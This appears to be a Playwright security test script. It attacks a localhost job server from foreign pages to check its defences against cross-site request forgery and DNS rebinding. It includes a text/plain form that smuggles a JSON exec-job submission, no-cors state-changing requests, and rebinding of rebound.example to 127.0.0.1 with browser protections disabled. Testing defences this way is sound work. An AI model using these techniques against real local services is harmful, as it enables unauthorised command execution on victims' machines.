// Attacks a server with headless Chromium from pages that are not its own. See ./run.
// Usage: node foreign_pages.mjs SERVER JOB    SERVER: base URL on localhost; JOB: id of an unopened job
// Prints one line for each request that a page made, "own" or "foreign", and what the page got.
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';

const [server, job] = process.argv.slice(2);
const port = new URL(server).port;
const submission = JSON.stringify({ operation: 'exec', command: 'echo attacked', start: true });

const browser = await chromium.launch({
  executablePath: process.env.CHROMIUM,
  args: [
    '--no-sandbox',
    '--disable-dev-shm-usage',
    // The name of the attacker leads to the machine of the victim: DNS rebinding.
    '--host-resolver-rules=MAP rebound.example 127.0.0.1',
    // The server's checks are under test, so those of the browser are off.
    '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights',
  ],
});

const attacker = createServer((request, response) => {
  response.writeHead(200, { 'Content-Type': 'text/html' });
  // Plain text whose form encoding is JSON.
  const [name, value] = submission.replace('"command"', '"tags":["="],"command"').split('=');
  response.end(
    `<form id=text method=post enctype=text/plain action="${server}/v1/jobs">` +
      `<input name='${name}' value='${value}'></form>` +
      `<form id=drain method=post action="${server}/v1/workers/built-in/drain"></form>` +
      `<a id=link href="${server}/v1/jobs/${job}/stream">link</a>`,
  );
});
await new Promise((listening) => attacker.listen(0, '127.0.0.1', listening));
const evil = `http://localhost:${attacker.address().port}/`;

const tell = (who, what, result) => console.log(`${who} ${what}: ${result}`);

async function on(address, work) {
  const page = await browser.newPage();
  await page.goto(address);
  await work(page);
  await page.close();
}

// Runs in the page.
const attempt = ({ url, options }) =>
  fetch(url, options)
    .then(async (answer) => (answer.type === 'opaque' ? 'opaque' : `${answer.status} ${(await answer.text()).slice(0, 400)}`))
    .catch(() => 'failed');

const simple = { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' } };
const requests = [
  ['submit', '/v1/jobs', { ...simple, body: submission }],
  ['drain', '/v1/workers/built-in/drain', simple],
  ['start', `/v1/jobs/${job}/start`, simple],
  ['stream', `/v1/jobs/${job}/stream`, { mode: 'no-cors' }],
  ['read', '/v1/jobs', {}],
  ['delete', '/v1/workers/built-in', { method: 'DELETE' }],
  ['metrics', '/q/metrics', {}],
];

for (const [name, path, options] of requests) {
  await on(evil, async (page) => tell('foreign', name, await page.evaluate(attempt, { url: server + path, options })));
}
for (const form of ['text', 'drain']) {
  await on(evil, async (page) => {
    const [answer] = await Promise.all([
      page.waitForResponse((response) => response.url().startsWith(server)),
      page.evaluate((id) => document.getElementById(id).submit(), form),
    ]);
    tell('foreign', `form ${form}`, answer.status());
  });
}
await on(evil, async (page) => {
  const [answer] = await Promise.all([
    page.waitForResponse((response) => response.url().startsWith(server)),
    page.click('#link'),
  ]);
  tell('foreign', 'navigation', answer.status());
});
// Runs in the page: loads an address by an element and says which event came.
const element = ({ url, tag, attribute }) =>
  new Promise((over) => {
    const node = document.createElement(tag);
    node.onload = () => over('loaded');
    node.onerror = () => over('error');
    node[attribute] = url;
    if (tag === 'link') node.rel = 'stylesheet';
    document.body.append(node);
    setTimeout(() => over('nothing'), 3000);
  });
for (const [tag, attribute] of [['img', 'src'], ['script', 'src'], ['iframe', 'src'], ['link', 'href']]) {
  const url = `${server}/v1/jobs/${job}/stream`;
  await on(evil, async (page) => tell('foreign', tag, await page.evaluate(element, { url, tag, attribute })));
  // A same-origin page cannot start a job by an element, either.
  await on(`${server}/v1/stats`, async (page) => tell('own', tag, await page.evaluate(element, { url, tag, attribute })));
}
// Runs in the page: the state of an EventSource after its first event.
const events = (url) =>
  new Promise((over) => {
    const source = new EventSource(url);
    const end = (text) => {
      source.close();
      over(text);
    };
    source.addEventListener('hello', () => end('hello'));
    source.onerror = () => end('error');
  });
await on(evil, async (page) =>
  tell('foreign', 'EventSource', await page.evaluate(events, `${server}/v1/jobs/${job}/stream`)),
);
const rebound = `http://rebound.example:${port}`;
await on(`${rebound}/v1/stats`, async (page) => {
  tell('rebound', 'page', (await page.textContent('body')).slice(0, 400));
  for (const [name, path, options] of requests) {
    tell('rebound', name, await page.evaluate(attempt, { url: rebound + path, options: { ...options, mode: 'same-origin' } }));
  }
  tell('rebound', 'EventSource', await page.evaluate(events, `${rebound}/v1/jobs/${job}/stream`));
});
console.log('attacks over');

// The caller looks at the server here, and then says so.
await new Promise((looked) => process.stdin.once('data', looked));

await on(`${server}/v1/stats`, async (page) => {
  const own = async (name, path, options = {}) =>
    tell('own', name, await page.evaluate(attempt, { url: path, options }));
  await own('submit', '/v1/jobs', { method: 'POST', body: JSON.stringify({ operation: 'status' }) });
  await own('drain', '/v1/workers/built-in/drain', { method: 'POST' });
  await own('undrain', '/v1/workers/built-in/undrain', { method: 'POST' });
  tell('own', 'EventSource', await page.evaluate(events, `/v1/jobs/${job}/stream`));
});
attacker.close();
await browser.close();
process.exit(0);
